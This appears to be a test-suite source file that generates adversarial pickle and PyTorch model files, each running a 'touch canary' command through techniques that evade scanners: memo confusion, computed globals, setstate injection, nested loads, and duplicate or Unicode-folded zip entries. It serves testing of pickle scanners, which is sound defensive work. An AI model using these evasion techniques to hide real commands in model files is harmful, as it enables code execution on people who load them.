"""Payload and container builders for the adversarial corpus (see corpus.py): each takes the
canary path and returns the bytes of a whole file."""

from __future__ import annotations

from collections.abc import Callable

from tests.adversarial import containers as Z
from tests.adversarial import pickles as P


def _touch(c: str) -> str:
    return P.touch_cmd(c)


def _py(c: str) -> str:
    return P.open_code(c)


# ---- payload builders (pickle bodies without PROTO/STOP) ------------------------------------
def _getattr_import(c: str) -> bytes:
    """getattr(__import__('os'), 'system')('touch canary')"""
    getattr_os = P.call(P.global_("builtins", "getattr"),
                        P.call(P.global_("builtins", "__import__"), P.binunicode("os")),
                        P.binunicode("system"))
    return P.call(getattr_os, P.binunicode(_touch(c)))


def _attrgetter(c: str) -> bytes:
    """operator.attrgetter('system')(importlib.import_module('os'))('touch canary')"""
    getter = P.call(P.global_("operator", "attrgetter"), P.binunicode("system"))
    os_mod = P.call(P.global_("importlib", "import_module"), P.binunicode("os"))
    return P.call(getter + P.MARK + os_mod + P.TUPLE + P.REDUCE, P.binunicode(_touch(c)))


def _computed_stack_global(c: str) -> bytes:
    """STACK_GLOBAL whose operands come out of _codecs.encode (rot13) calls: the only GLOBAL
    in the stream is an allowlisted one."""
    rot = P.global_("_codecs", "encode") + P.MEMOIZE  # memo 0

    def enc(plain: str) -> bytes:
        import codecs

        return P.binget(0) + P.MARK + P.binunicode(codecs.encode(plain, "rot13")) + \
            P.binunicode("rot13") + P.TUPLE + P.REDUCE

    return rot + P.POP + enc("os") + enc("system") + P.STACK_GLOBAL + P.MARK + \
        P.binunicode(_touch(c)) + P.TUPLE + P.REDUCE


def _memo_shuffle(c: str) -> bytes:
    """picklescan#22-style memo confusion: innocent strings are memoized, then the memo
    slots are overwritten (PUT/BINPUT/LONG_BINPUT/MEMOIZE mix) and fetched back with
    GET/BINGET/LONG_BINGET for STACK_GLOBAL."""
    return (P.short_binunicode("collections") + P.put(1) + P.POP
            + P.short_binunicode("OrderedDict") + P.binput(2) + P.POP
            + P.short_binunicode("posix") + P.MEMOIZE  # memo key len(memo) == 2: overwrites
            + P.long_binput(1) + P.POP
            + P.short_binunicode("system") + P.binput(2) + P.POP
            + P.get(1) + P.long_binget(2) + P.STACK_GLOBAL
            + P.MARK + P.binunicode(_touch(c)) + P.TUPLE + P.REDUCE)


def _off_by_one(c: str) -> bytes:
    """The last two string opcodes before STACK_GLOBAL are decoys; the real operands came
    from the memo earlier (picklescan's walk-back resolved the wrong pair)."""
    return (P.short_binunicode("posix") + P.binput(0) + P.POP
            + P.short_binunicode("system") + P.binput(1) + P.POP
            + P.binget(0) + P.binget(1)
            + P.short_binunicode("collections") + P.short_binunicode("OrderedDict")
            + P.POP + P.POP + P.STACK_GLOBAL
            + P.MARK + P.binunicode(_touch(c)) + P.TUPLE + P.REDUCE)


def _nonunicode_stack_global(op: Callable[[str], bytes]) -> Callable[[str], bytes]:
    def body(c: str) -> bytes:
        return op("posix") + op("system") + P.STACK_GLOBAL + P.MARK + \
            P.binunicode(_touch(c)) + P.TUPLE + P.REDUCE
    return body


def _setstate_injection(c: str) -> bytes:
    """BUILD #1 plants ``__setstate__ = posix.system`` in an argparse.Namespace's __dict__;
    BUILD #2 then calls it with the command as the state."""
    return (P.global_("argparse", "Namespace") + P.EMPTY_TUPLE + P.NEWOBJ
            + P.EMPTY_DICT + P.binunicode("__setstate__") + P.global_("posix", "system")
            + P.SETITEM + P.BUILD + P.binunicode(_touch(c)) + P.BUILD)


def _partial_newobj(c: str) -> bytes:
    return (P.global_("functools", "partial") + P.MARK + P.global_("posix", "system")
            + P.binunicode(_touch(c)) + P.TUPLE + P.NEWOBJ + P.EMPTY_TUPLE + P.REDUCE)


def _partial_newobj_ex(c: str) -> bytes:
    return (P.global_("functools", "partial") + P.MARK + P.global_("posix", "system")
            + P.binunicode(_touch(c)) + P.TUPLE + P.EMPTY_DICT + P.NEWOBJ_EX
            + P.EMPTY_TUPLE + P.REDUCE)


def _ext_registered(code_op: Callable[[int], bytes], code: int,
                    module: str = "posix") -> Callable[[str], bytes]:
    """copyreg.add_extension(module, 'system', code) then EXTn code → module.system."""
    def body(c: str) -> bytes:
        reg = P.call(P.global_("copyreg", "add_extension"), P.binunicode(module),
                     P.binunicode("system"), P.binint(code)) + P.POP
        return reg + code_op(code) + P.MARK + P.binunicode(_touch(c)) + P.TUPLE + P.REDUCE
    return body


def _nested(loader: bytes, inner_protocol: int = 2) -> Callable[[str], bytes]:
    def body(c: str) -> bytes:
        inner = P.wrap_dict(P.system_call(_touch(c)), protocol=inner_protocol)
        return P.call(loader, P.binbytes(inner))
    return body


def _nested_codecs(c: str) -> bytes:
    """pickle.loads(_codecs.encode(latin1_text, 'latin1')) — bytes built at load time, as in
    picklescan's own malicious13 test (PR #25)."""
    inner = P.wrap_dict(P.system_call(_touch(c)))
    data = P.call(P.global_("_codecs", "encode"), P.binunicode(inner.decode("latin1")),
                  P.binunicode("latin1"))
    return P.call(P.global_("pickle", "loads"), data)


def _nested_torch_bytes(c: str) -> bytes:
    inner = Z.torch_zip_with(replace={"data.pkl": P.wrap_dict(P.system_call(_touch(c)))})
    return P.call(P.global_("torch.storage", "_load_from_bytes"), P.binbytes(inner))


def _fx_exec(c: str) -> bytes:
    """torch.fx.graph_module.reduce_graph_module(body, import_block) exec()s the source."""
    body = P.EMPTY_DICT + P.binunicode("code") + P.binunicode(
        "\ndef forward(self):\n    return None\n") + P.SETITEM
    return P.call(P.global_("torch.fx.graph_module", "reduce_graph_module"), body,
                  P.binunicode(_py(c) + "\n"))


def _dict_get_builtins(c: str) -> bytes:
    """modelscan#89: builtins ``dict.get`` (a dotted name) on numpy.__builtins__ → exec."""
    get_exec = P.call(P.global_("builtins", "dict.get"), P.global_("numpy", "__builtins__"),
                      P.binunicode("exec"))
    return P.call(get_exec, P.binunicode(_py(c)))


def _build_on_global(c: str) -> bytes:
    """modelscan#85: BUILD's slotstate setattr()s onto a *global object itself* (here the
    class argparse.Namespace), monkeypatching the process; later lookups fire it."""
    return (P.global_("argparse", "Namespace") + P.NONE + P.EMPTY_DICT
            + P.binunicode("__repr__") + P.global_("posix", "system") + P.SETITEM
            + P.TUPLE2 + P.BUILD + P.POP + P.NONE)


def _build_on_allowlisted_global(c: str) -> bytes:
    """BUILD applied to an allowlisted torch function object — no denylisted name anywhere;
    only an interpreter that tracks BUILD targets sees it. (Not runnable: data only.)"""
    return (P.global_("torch._utils", "_rebuild_tensor_v2") + P.NONE + P.EMPTY_DICT
            + P.binunicode("__defaults__") + P.MARK + P.NONE + P.TUPLE + P.SETITEM
            + P.TUPLE2 + P.BUILD + P.POP + P.NONE)


def _call_body(body: Callable[[str], bytes], protocol: int = 2) -> Callable[[str], bytes]:
    return lambda c: P.wrap_dict(body(c), protocol=protocol)


def _raw(op_body: Callable[[str], bytes], protocol: int = 2) -> Callable[[str], bytes]:
    return _call_body(op_body, protocol)


# ---- container builders ---------------------------------------------------------------------
def _payload_pkl(c: str) -> bytes:
    return P.wrap_dict(P.system_call(_touch(c)))


def _zip_replaced(c: str) -> bytes:
    return Z.torch_zip_with(replace={"data.pkl": _payload_pkl(c)})


def _zip_spliced(c: str) -> bytes:
    members = Z.read_members(Z.torch_zip())
    data_pkl = next(d for n, d in members if n.endswith("/data.pkl"))
    return Z.torch_zip_with(replace={"data.pkl": Z.splice_into_dict_pickle(
        data_pkl, "_meta", P.system_call(_touch(c)))})


def _zip_second_member(c: str) -> bytes:
    return Z.torch_zip_with(add=[Z.Member("archive/extra/hooks.pkl", _payload_pkl(c))])


def _zip_misleading_member_name(c: str) -> bytes:
    return Z.torch_zip_with(add=[Z.Member("archive/data/99", _payload_pkl(c))])


def _zip_bad_crc(c: str) -> bytes:
    return Z.torch_zip_with(replace={"data.pkl": _payload_pkl(c)}, crc_override=0xDEADBEEF)


def _zip_name_mismatch(c: str) -> bytes:
    return Z.torch_zip_with(replace={"data.pkl": _payload_pkl(c)},
                            local_name="archive/innocent.txt")


def _zip_flag_bits(c: str) -> bytes:
    return Z.torch_zip_with(replace={"data.pkl": _payload_pkl(c)}, flag_bits=0x800,
                            local_flag_bits=0x41)


def _zip_deflated(c: str) -> bytes:
    return Z.torch_zip_with(replace={"data.pkl": _payload_pkl(c)}, deflate=True)


def _zip_duplicate(evil_last: bool) -> Callable[[str], bytes]:
    """Two central-directory entries named data.pkl; torch's miniz loads the one its heap
    sort puts where the binary search lands (here: the last; see _zip_duplicate_by_sort)."""
    def body(c: str) -> bytes:
        out = []
        for name, data in Z.read_members(Z.torch_zip()):
            if name.endswith("/data.pkl"):
                pair = [Z.Member(name, data), Z.Member(name, _payload_pkl(c))]
                out += pair if evil_last else pair[::-1]
            else:
                out.append(Z.Member(name, data))
        return Z.zip_bytes(out)
    return body


def _torchscript_constants(c: str) -> bytes:
    consts = P.proto(2) + P.MARK + P.system_call(_touch(c)) + P.TUPLE + P.STOP
    return Z.torch_zip_with(base=Z.torchscript_zip(), replace={"constants.pkl": consts})


def _legacy_header(index: int) -> Callable[[str], bytes]:
    def body(c: str) -> bytes:
        pickles, tail = Z.legacy_pickles()
        pickles[index] = P.proto(2) + P.system_call(_touch(c)) + P.POP + \
            pickles[index][2:]  # keep the original value: the file still loads
        return b"".join(pickles) + tail
    return body


def _raw_pickle_as_pt(c: str) -> bytes:
    return _payload_pkl(c)


def _zip_two_directories(c: str) -> bytes:
    """zipfile reads the clean torch.save directory, torch's miniz the payload's."""
    members = [Z.Member(n, d) for n, d in Z.read_members(Z.torch_zip())]
    evil = [Z.Member(m.name, _payload_pkl(c)) if m.name.endswith("/data.pkl") else m
            for m in members]
    return Z.zip_two_directories(members, evil)


def _zip_duplicate_by_sort(c: str) -> bytes:
    """Three names equal after ASCII case folding, the payload in the middle one: miniz's
    heap sort and binary search pick it — neither the first nor the last entry (the layout:
    torch.save's order, DATA.pkl second, Data.PKL before version)."""
    members = Z.read_members(Z.torch_zip())
    top = members[0][0][:-len("data.pkl")]
    assert members[0][0] == top + "data.pkl" and members[-2][0] == top + "version"
    out = [Z.Member(*members[0]), Z.Member(top + "DATA.pkl", _payload_pkl(c))]
    out += [Z.Member(n, d) for n, d in members[1:-2]]
    out += [Z.Member(top + "Data.PKL", members[0][1])]
    out += [Z.Member(n, d) for n, d in members[-2:]]
    return Z.zip_bytes(out)


def _zip_kelvin_sign(c: str) -> bytes:
    """A decoy named data.p\u212al (KELVIN SIGN) after the real data.pkl: str.lower() makes
    the names equal (a reader keyed by it keeps the decoy), miniz's ASCII folding does not."""
    out = []
    for name, data in Z.read_members(Z.torch_zip()):
        if name.endswith("/data.pkl"):
            out += [Z.Member(name, _payload_pkl(c)),
                    Z.Member(name[:-len("data.pkl")] + "data.p\u212al", data)]
        else:
            out.append(Z.Member(name, data))
    return Z.zip_bytes(out)
